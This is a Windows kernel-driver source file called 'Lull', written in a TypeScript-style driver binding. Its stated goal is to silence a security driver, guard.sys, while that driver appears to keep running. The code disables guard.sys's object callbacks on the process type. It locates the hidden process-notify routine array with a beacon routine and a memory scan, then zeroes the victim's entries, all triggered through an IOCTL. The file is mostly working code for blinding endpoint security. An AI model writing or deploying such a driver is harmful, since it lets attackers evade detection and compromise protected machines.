/*
 * Lull: takes the routines of guard.sys out of the lists that the kernel calls from.
 *
 * Who is told of processes stands in an array of the kernel's, who is asked about handles in a list
 * of the object type. Both are data, and a driver may write data. guard.sys stays loaded, its program
 * runs, its icon is green; it is merely told nothing any more.
 */
import {
  CTL_CODE,
  DRIVER_OBJECT,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_SECURE_OPEN,
  FILE_DEVICE_UNKNOWN,
  IO_NO_INCREMENT,
  IRP_MJ_CLOSE,
  IRP_MJ_CREATE,
  IRP_MJ_DEVICE_CONTROL,
  IoCompleteRequest,
  IoCreateDevice,
  IoCreateSymbolicLink,
  IoDeleteDevice,
  IoDeleteSymbolicLink,
  IoGetCurrentIrpStackLocation,
  KernelMode,
  METHOD_BUFFERED,
  MmGetSystemRoutineAddress,
  MmIsAddressValid,
  NT_SUCCESS,
  OBJECT_TYPE,
  OBJ_CASE_INSENSITIVE,
  ObDereferenceObject,
  ObReferenceObjectByName,
  PVOID,
  PsSetCreateProcessNotifyRoutine,
  RTL_CONSTANT_STRING,
  STATUS_INVALID_DEVICE_REQUEST,
  STATUS_NOT_FOUND,
  STATUS_SUCCESS,
  TRUE,
  ULONG_PTR,
  cast,
  out,
} from 'wdm'
import type { BOOLEAN, DEVICE_OBJECT, HANDLE, IRP, NTSTATUS, UNICODE_STRING } from 'wdm'

const IOCTL_ACT = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
const DeviceName = RTL_CONSTANT_STRING('\\Device\\Lull')
const LinkName = RTL_CONSTANT_STRING('\\??\\Lull')

const PAGE_SIZE = 0x1000n
/** The kernel's variables here: two pages, of which the exported ones are a part. */
const DATA_PAGES = 2
const ENTRIES_IN_PAGE = 512
const NOTIFY_ROUTINES_MAX = 64
/** The low bits of an entry count references. */
const FAST_REF_BITS = 0xfn

/** EX_CALLBACK_ROUTINE_BLOCK: what an entry of the array points at. */
const BLOCK_FUNCTION = 8
/** CALLBACK_ENTRY_ITEM: what the list of an object type has. */
const ITEM_ENABLED = 0x14
const ITEM_PRE_OPERATION = 0x28

const Victim = RTL_CONSTANT_STRING('\\Driver\\guard')

/** Where the image of guard.sys begins and ends. */
let victimStart: ULONG_PTR = 0n
let victimEnd: ULONG_PTR = 0n

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.MajorFunction[IRP_MJ_CREATE] = LullCreateClose
  DriverObject.MajorFunction[IRP_MJ_CLOSE] = LullCreateClose
  DriverObject.MajorFunction[IRP_MJ_DEVICE_CONTROL] = LullDeviceControl
  DriverObject.DriverUnload = LullUnload
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(
    DriverObject,
    0,
    DeviceName,
    FILE_DEVICE_UNKNOWN,
    FILE_DEVICE_SECURE_OPEN,
    FALSE,
    device,
  )
  if (!NT_SUCCESS(status)) return status
  status = IoCreateSymbolicLink(LinkName, DeviceName)
  if (!NT_SUCCESS(status)) IoDeleteDevice(device.value)
  return status
}

/** Registered to be found: its entry shows where the array lies. */
function Beacon(ParentId: HANDLE, ProcessId: HANDLE, Create: BOOLEAN): void {}

function Act(): NTSTATUS {
  const status = FindVictim()
  if (!NT_SUCCESS(status)) return status
  Disable()
  return ClearNotifyRoutines()
}

/** Look the driver up by its name, as whoever debugs a machine would. */
function FindVictim(): NTSTATUS {
  const object = out<PVOID>()
  const type = MmGetSystemRoutineAddress(RTL_CONSTANT_STRING('IoDriverObjectType'))
  const status = ObReferenceObjectByName(
    Victim,
    OBJ_CASE_INSENSITIVE,
    null,
    0,
    cast(OBJECT_TYPE, type.u64[0]),
    KernelMode,
    null,
    object,
  )
  if (!NT_SUCCESS(status)) return status
  const driver = cast(DRIVER_OBJECT, object.value)
  victimStart = cast(ULONG_PTR, driver.DriverStart)
  victimEnd = victimStart + BigInt(driver.DriverSize)
  ObDereferenceObject(driver)
  return STATUS_SUCCESS
}

function IsVictims(Routine: ULONG_PTR): boolean {
  return Routine >= victimStart && Routine < victimEnd
}

/** Object callbacks: each has a switch. PsProcessType is exported, and the list begins in it. */
function Disable(): void {
  const type = MmGetSystemRoutineAddress(RTL_CONSTANT_STRING('PsProcessType'))
  const head = cast(OBJECT_TYPE, type.u64[0]).CallbackList
  for (let item = head.Flink; item !== head; item = item.Flink)
    if (IsVictims(item.u64[ITEM_PRE_OPERATION / 8])) item.u32[ITEM_ENABLED / 4] = 0
}

/**
 * Notify routines: their array is exported by nobody. Real malware reads its address out of the code
 * of PsSetCreateProcessNotifyRoutine; here the driver registers a routine and looks for its entry.
 */
function ClearNotifyRoutines(): NTSTATUS {
  const status = PsSetCreateProcessNotifyRoutine(Beacon, FALSE)
  if (!NT_SUCCESS(status)) return status
  const array = FindArray()
  if (array !== null)
    for (let slot = 0; slot < NOTIFY_ROUTINES_MAX; slot++) {
      const entry = array.u64[slot]
      if (entry !== 0n && IsVictims(FunctionOf(entry))) array.u64[slot] = 0n
    }
  PsSetCreateProcessNotifyRoutine(Beacon, TRUE)
  return array === null ? STATUS_NOT_FOUND : STATUS_SUCCESS
}

/** The array's first entry: the beacon's or, when others came before it, so many in front of it. */
function FindArray(): PVOID {
  const known = MmGetSystemRoutineAddress(RTL_CONSTANT_STRING('PsProcessType'))
  const first = cast(ULONG_PTR, known) & ~(PAGE_SIZE - 1n)
  const beacon = cast(ULONG_PTR, Beacon)
  for (let page = 1 - DATA_PAGES; page < DATA_PAGES; page++) {
    const data = cast(PVOID, first + BigInt(page) * PAGE_SIZE)
    if (!MmIsAddressValid(data)) continue
    for (let i = 0; i < ENTRIES_IN_PAGE; i++) {
      if (FunctionOf(data.u64[i]) !== beacon) continue
      let start = i
      while (start > 0 && FunctionOf(data.u64[start - 1]) !== 0n) start--
      return data.add(start * 8)
    }
  }
  return null
}

/** What an entry leads to, if it is one: its low four bits are set, and it points at a block in the pool. */
function FunctionOf(Entry: ULONG_PTR): ULONG_PTR {
  if ((Entry & FAST_REF_BITS) !== FAST_REF_BITS) return 0n
  const block = cast(PVOID, Entry & ~FAST_REF_BITS)
  return MmIsAddressValid(block) ? block.u64[BLOCK_FUNCTION / 8] : 0n
}

function LullDeviceControl(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const request = IoGetCurrentIrpStackLocation(Irp).Parameters.DeviceIoControl
  const isKnown = request.IoControlCode === IOCTL_ACT
  return Complete(Irp, isKnown ? Act() : STATUS_INVALID_DEVICE_REQUEST)
}

function LullCreateClose(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  return Complete(Irp, STATUS_SUCCESS)
}

function Complete(Irp: IRP, Status: NTSTATUS): NTSTATUS {
  Irp.IoStatus.Status = Status
  Irp.IoStatus.Information = 0
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return Status
}

function LullUnload(DriverObject: DRIVER_OBJECT): void {
  IoDeleteSymbolicLink(LinkName)
  IoDeleteDevice(DriverObject.DeviceObject)
}
